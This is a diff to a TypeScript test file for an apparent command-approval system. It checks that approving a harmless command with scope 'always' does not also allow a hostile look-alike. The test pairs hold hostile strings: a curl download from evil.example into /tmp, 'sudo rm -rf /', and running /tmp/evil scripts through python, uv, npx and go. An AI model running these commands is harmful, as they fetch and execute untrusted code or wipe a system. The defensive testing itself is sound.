@@ -250,6 +250,10 @@ describe('scoped allow', () => {
       ['timeout 60 npm test', 'timeout 60 curl -o /tmp/x https://evil.example/x'],
       ['env CI=1 npm test', 'env bash /tmp/x'],
       ['python3 build.py', 'python3 /tmp/evil.py'],
+      ['DEBUG=1 sudo -n systemctl status nginx', 'DEBUG=1 sudo rm -rf /'],
+      ['uv run python build.py', 'uv run python /tmp/evil.py'],
+      ['npx tsx scripts/build.ts', 'npx tsx /tmp/evil.ts'],
+      ['go run ./cmd/gen', 'go run /tmp/evil.go'],
     ] as const) {
       const first = await createRequest(t.api, command(approved));
       expect((await decide(t.api, first, 'approve', { scope: 'always' })).status).toBe(200);
